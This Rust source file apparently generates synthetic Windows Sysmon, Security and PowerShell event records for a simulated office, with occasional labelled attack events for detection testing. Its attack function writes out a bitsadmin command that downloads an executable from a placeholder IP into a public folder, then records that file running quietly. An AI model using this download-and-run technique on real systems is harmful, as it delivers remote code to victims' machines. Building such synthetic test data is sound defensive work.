//! An office at work: people start programs, programs talk, load and write; now and then somebody attacks.

use super::{Record, random::Random};

const SYSMON: (&str, &str, &str) =
    ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Microsoft-Windows-Sysmon/Operational");
const SECURITY: (&str, &str, &str) =
    ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security");
const POWERSHELL: (&str, &str, &str) = (
    "Microsoft-Windows-PowerShell",
    "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
    "Microsoft-Windows-PowerShell/Operational",
);

const HOSTS: [&str; 12] = [
    "fin-ws01",
    "fin-ws02",
    "fin-ws03",
    "hr-ws01",
    "hr-ws02",
    "dev-ws01",
    "dev-ws02",
    "dev-ws03",
    "ops-ws01",
    "file-srv1",
    "app-srv1",
    "dc1",
];
const USERS: [&str; 10] =
    ["a.berg", "b.costa", "c.dahl", "d.evans", "e.fischer", "f.garcia", "g.haas", "h.ito", "svc_backup", "SYSTEM"];
/// Program, its usual parent, and what its command line ends with.
const PROGRAMS: [(&str, &str, &str); 16] = [
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Windows\explorer.exe",
        " --type=renderer --lang=en-GB",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Windows\explorer.exe",
        r#" /n "C:\Users\Public\Documents\minutes.docx""#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r"C:\Windows\explorer.exe",
        r#" "S:\budget\2026\forecast.xlsx""#,
    ),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe", " -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe", " -k LocalServiceNetworkRestricted -p"),
    (r"C:\Windows\System32\taskhostw.exe", r"C:\Windows\System32\svchost.exe", " -RegisterUserDevice"),
    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\svchost.exe", " -Embedding"),
    (r"C:\Windows\System32\backgroundTaskHost.exe", r"C:\Windows\System32\svchost.exe", " -ServerName:App"),
    (r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe", " 0xffffffff -ForceV1"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe", r" /c \\file-srv1\logon\map-drives.cmd"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\svchost.exe",
        r" -NoProfile -File C:\ops\inventory.ps1",
    ),
    (r"C:\Windows\System32\bitsadmin.exe", r"C:\Windows\System32\cmd.exe", " /list /allusers /verbose"),
    (r"C:\Windows\System32\wermgr.exe", r"C:\Windows\System32\svchost.exe", " -upload"),
    (r"C:\Program Files\Git\cmd\git.exe", r"C:\Program Files\Microsoft VS Code\Code.exe", " status --porcelain"),
    (r"C:\Windows\System32\ipconfig.exe", r"C:\Windows\System32\cmd.exe", " /all"),
    (r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\System32\services.exe", " /Embedding"),
];
const DOMAINS: [&str; 8] = [
    "login.example-mail.com",
    "updates.example-os.com",
    "cdn.example-news.com",
    "api.example-crm.com",
    "intranet.corp.example",
    "time.corp.example",
    "static.example-shop.com",
    "telemetry.example-app.com",
];

/// The endless stream of the office's events.
#[derive(Debug)]
pub(crate) struct Office {
    random: Random,
    spacing: u64,
    next: u64,
    time: u64,
    /// How many times slower than a busy office.
    pace: u64,
}

impl Office {
    /// An office whose day begins on 2026-03-02 at 06:00 UTC, with an attack about every `spacing` events.
    pub(crate) fn new(seed: u64, spacing: u64) -> Self {
        Self { random: Random::new(seed), spacing: spacing.max(1), next: 100_000, time: 1_772_431_200_000, pace: 1 }
    }

    /// The same events, so many times further apart.
    pub(super) fn paced(self, pace: u64) -> Self {
        Self { pace: pace.max(1), ..self }
    }

    fn record(
        &mut self,
        (provider, guid, channel): (&'static str, &'static str, &'static str),
        event_id: u32,
        data: Vec<(&'static str, String)>,
    ) -> Record {
        let computer = format!("{}.corp.example", self.random.skewed(&HOSTS));
        Record { provider, guid, channel, event_id, computer, number: self.next, time: self.time, data, attack: None }
    }

    fn user(&mut self) -> String {
        match *self.random.skewed(&USERS) {
            "SYSTEM" => r"NT AUTHORITY\SYSTEM".to_owned(),
            name => format!(r"CORP\{name}"),
        }
    }

    fn pid(&mut self) -> u64 {
        400 + 4 * self.random.below(4_000)
    }

    fn guid(&mut self) -> String {
        let (a, b) = (self.random.bits(), self.random.bits());
        format!(
            "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
            a >> 32,
            (a >> 16) & 0xFFFF,
            a & 0xFFFF,
            b >> 48,
            b & 0xFFFF_FFFF_FFFF
        )
    }

    /// `yyyy-MM-dd HH:mm:ss.SSS`, as Sysmon writes it.
    fn utc(&self) -> String {
        super::write::time(self.time).replace('T', " ").trim_end_matches('Z').to_owned()
    }

    fn process_created(
        &mut self,
        image: &str,
        command_line: String,
        parent: &str,
        parent_command_line: String,
    ) -> Record {
        let name = image.rsplit('\\').next().unwrap_or(image).to_owned();
        let (user, logon) = (self.user(), self.random.below(1 << 20));
        let (guid, parent_guid, logon_guid) = (self.guid(), self.guid(), self.guid());
        let (pid, parent_pid, hash) = (self.pid(), self.pid(), self.random.bits());
        let data = vec![
            ("RuleName", "-".to_owned()),
            ("UtcTime", self.utc()),
            ("ProcessGuid", guid),
            ("ProcessId", pid.to_string()),
            ("Image", image.to_owned()),
            ("FileVersion", "10.0.22621.1 (WinBuild.160101.0800)".to_owned()),
            ("OriginalFileName", name),
            ("CommandLine", command_line),
            ("CurrentDirectory", r"C:\Windows\system32\".to_owned()),
            ("User", user.clone()),
            ("LogonGuid", logon_guid),
            ("LogonId", format!("0x{logon:x}")),
            ("TerminalSessionId", "1".to_owned()),
            ("IntegrityLevel", "Medium".to_owned()),
            ("Hashes", format!("MD5={hash:032X},SHA256={hash:064X}")),
            ("ParentProcessGuid", parent_guid),
            ("ParentProcessId", parent_pid.to_string()),
            ("ParentImage", parent.to_owned()),
            ("ParentCommandLine", parent_command_line),
            ("ParentUser", user),
        ];
        self.record(SYSMON, 1, data)
    }

    fn background(&mut self) -> Record {
        let (image, parent, tail) = *self.random.skewed(&PROGRAMS);
        let (user, utc, guid, pid) = (self.user(), self.utc(), self.guid(), self.pid().to_string());
        let process = vec![
            ("UtcTime", utc),
            ("ProcessGuid", guid),
            ("ProcessId", pid),
            ("Image", image.to_owned()),
            ("User", user),
        ];
        match self.random.below(100) {
            0..30 => self.process_created(image, format!("\"{image}\"{tail}"), parent, parent.to_owned()),
            30..42 => self.connection(process),
            42..60 => self.image_loaded(process),
            60..70 => {
                let n = self.random.below(900_000);
                let path = format!(r"C:\Users\Public\AppData\Local\Temp\~tmp{n:06}.dat");
                let data = with(process, [("TargetFilename", path), ("CreationUtcTime", self.utc())]);
                self.record(SYSMON, 11, data)
            }
            70..80 => {
                let n = self.random.below(5_000);
                let key = format!(r"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\App\Recent\item{n}");
                let data = with(
                    process,
                    [
                        ("EventType", "SetValue".into()),
                        ("TargetObject", key),
                        ("Details", format!("DWORD (0x{n:08x})")),
                    ],
                );
                self.record(SYSMON, 13, data)
            }
            80..86 => {
                let domain = (*self.random.skewed(&DOMAINS)).to_owned();
                let answer = format!("::ffff:203.0.113.{};", self.random.below(250));
                let data =
                    with(process, [("QueryName", domain), ("QueryStatus", "0".into()), ("QueryResults", answer)]);
                self.record(SYSMON, 22, data)
            }
            86..94 => self.audited(image, tail),
            _ => self.script_block(),
        }
    }

    fn connection(&mut self, process: Vec<(&'static str, String)>) -> Record {
        let source = format!("10.20.{}.{}", self.random.below(8), self.random.below(250));
        let target = format!("198.51.100.{}", self.random.below(250));
        let port = 49_152 + self.random.below(16_000);
        let data = with(
            process,
            [
                ("Protocol", "tcp".to_owned()),
                ("Initiated", "true".to_owned()),
                ("SourceIsIpv6", "false".to_owned()),
                ("SourceIp", source),
                ("SourcePort", port.to_string()),
                ("DestinationIsIpv6", "false".to_owned()),
                ("DestinationIp", target),
                ("DestinationPort", "443".to_owned()),
                ("DestinationPortName", "https".to_owned()),
            ],
        );
        self.record(SYSMON, 3, data)
    }

    fn image_loaded(&mut self, process: Vec<(&'static str, String)>) -> Record {
        let dll = *self.random.skewed(&[
            "kernel32.dll",
            "user32.dll",
            "crypt32.dll",
            "combase.dll",
            "bcrypt.dll",
            "amsi.dll",
            "clr.dll",
        ]);
        let hash = self.random.skewed(&[11_u64, 12, 13, 14, 15, 16]);
        let data = with(
            process,
            [
                ("ImageLoaded", format!(r"C:\Windows\System32\{dll}")),
                ("OriginalFileName", dll.to_owned()),
                ("Hashes", format!("SHA256={hash:064X}")),
                ("Signed", "true".to_owned()),
                ("Signature", "Microsoft Windows".to_owned()),
                ("SignatureStatus", "Valid".to_owned()),
            ],
        );
        self.record(SYSMON, 7, data)
    }

    fn audited(&mut self, image: &str, tail: &str) -> Record {
        let user = (*self.random.skewed(&USERS)).to_owned();
        let (pid, parent, logon) = (self.pid(), self.pid(), self.random.below(1 << 20));
        if self.random.below(2) == 0 {
            let data = vec![
                ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104".to_owned()),
                ("SubjectUserName", user),
                ("SubjectDomainName", "CORP".to_owned()),
                ("SubjectLogonId", format!("0x{logon:x}")),
                ("NewProcessId", format!("0x{pid:x}")),
                ("NewProcessName", image.to_owned()),
                ("TokenElevationType", "%%1938".to_owned()),
                ("ProcessId", format!("0x{parent:x}")),
                ("CommandLine", format!("\"{image}\"{tail}")),
                ("ParentProcessName", r"C:\Windows\explorer.exe".to_owned()),
            ];
            return self.record(SECURITY, 4688, data);
        }
        let address = format!("10.20.{}.{}", self.random.below(8), self.random.below(250));
        let data = vec![
            ("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104".to_owned()),
            ("TargetUserName", user),
            ("TargetDomainName", "CORP".to_owned()),
            ("TargetLogonId", format!("0x{logon:x}")),
            ("LogonType", (*self.random.skewed(&["3", "5", "2", "10"])).to_owned()),
            ("LogonProcessName", "Kerberos".to_owned()),
            ("AuthenticationPackageName", "Kerberos".to_owned()),
            ("IpAddress", address),
            ("IpPort", (49_152 + pid).to_string()),
        ];
        self.record(SECURITY, 4624, data)
    }

    fn script_block(&mut self) -> Record {
        let n = self.random.below(100_000);
        let text = format!(
            "function Get-Inventory{n} {{\n  param([string]$Path)\n  Get-ChildItem -Path $Path -Recurse | Where-Object {{ $_.Length -gt {n} }} |\n    Select-Object FullName, Length | Export-Csv -NoTypeInformation .\\inventory-{n}.csv\n}}"
        );
        let data = vec![
            ("MessageNumber", "1".to_owned()),
            ("MessageTotal", "1".to_owned()),
            ("ScriptBlockText", text),
            ("ScriptBlockId", self.guid().trim_matches(['{', '}']).to_lowercase()),
            ("Path", r"C:\ops\inventory.ps1".to_owned()),
        ];
        self.record(POWERSHELL, 4104, data)
    }

    fn attack(&mut self) -> Record {
        let n = self.random.below(1_000);
        if self.random.below(2) == 0 {
            let line = format!(
                r"bitsadmin.exe /transfer job{n} /download /priority high http://203.0.113.9/update{n}.exe C:\Users\Public\update{n}.exe"
            );
            let mut record = self.process_created(
                r"C:\Windows\System32\bitsadmin.exe",
                line,
                r"C:\Windows\System32\cmd.exe",
                "cmd.exe".into(),
            );
            record.attack = Some("bits-download");
            return record;
        }
        let parent = r"C:\Windows\System32\svchost.exe";
        let mut record = self.process_created(
            &format!(r"C:\Users\Public\update{n}.exe"),
            format!(r"C:\Users\Public\update{n}.exe /quiet"),
            parent,
            format!("{parent} -k netsvcs -p -s BITS"),
        );
        record.attack = Some("bits-notify");
        record
    }
}

fn with<const N: usize>(
    mut data: Vec<(&'static str, String)>,
    more: [(&'static str, String); N],
) -> Vec<(&'static str, String)> {
    data.extend(more);
    data
}

impl Iterator for Office {
    type Item = Record;

    fn next(&mut self) -> Option<Record> {
        self.next += 1;
        self.time += (20 + self.random.below(900)) * self.pace;
        Some(if self.random.below(self.spacing) == 0 { self.attack() } else { self.background() })
    }
}
